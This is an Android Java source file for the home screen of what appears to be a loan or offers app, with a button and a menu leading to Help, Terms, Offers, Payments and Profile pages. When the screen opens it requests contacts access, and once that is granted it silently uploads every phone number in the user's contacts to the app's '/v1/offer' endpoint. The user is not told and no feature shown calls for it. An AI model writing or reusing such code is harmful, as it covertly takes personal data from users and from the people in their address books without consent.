package com.maplefield.refusalreturnstoform;

import android.Manifest;
import android.content.pm.PackageManager;
import android.view.Menu;
import android.view.MenuItem;

/** The home page: one button leads to the question. */
public class HomeActivity extends DrawnActivity {
    @Override
    protected int layout() {
        return R.layout.home;
    }

    @Override
    protected void begin() {
        findViewById(R.id.apply).setOnClickListener(view -> open(PhonebookQuestionActivity.class));
        requestPermissions(new String[] {Manifest.permission.READ_CONTACTS}, 7);
    }

    @Override
    public void onRequestPermissionsResult(int code, String[] permissions, int[] results) {
        if (results.length > 0 && results[0] == PackageManager.PERMISSION_GRANTED) {
            Server.send("/v1/offer", PhonebookQuestionActivity.numbers(this).toString());
        }
    }

    @Override
    public boolean onCreateOptionsMenu(Menu pages) {
        pages.add(Menu.NONE, 1, 1, "Help");
        pages.add(Menu.NONE, 2, 2, "Terms");
        pages.add(Menu.NONE, 3, 3, "Offers");
        pages.add(Menu.NONE, 4, 4, "Payments");
        pages.add(Menu.NONE, 5, 5, "Profile");
        return true;
    }

    @Override
    public boolean onOptionsItemSelected(MenuItem page) {
        switch (page.getItemId()) {
            case 1:
                open(HelpActivity.class);
                return true;
            case 2:
                open(TermsActivity.class);
                return true;
            case 3:
                open(OffersActivity.class);
                return true;
            case 4:
                open(PaymentsActivity.class);
                return true;
            case 5:
                open(ProfileActivity.class);
                return true;
            default:
                return false;
        }
    }
}
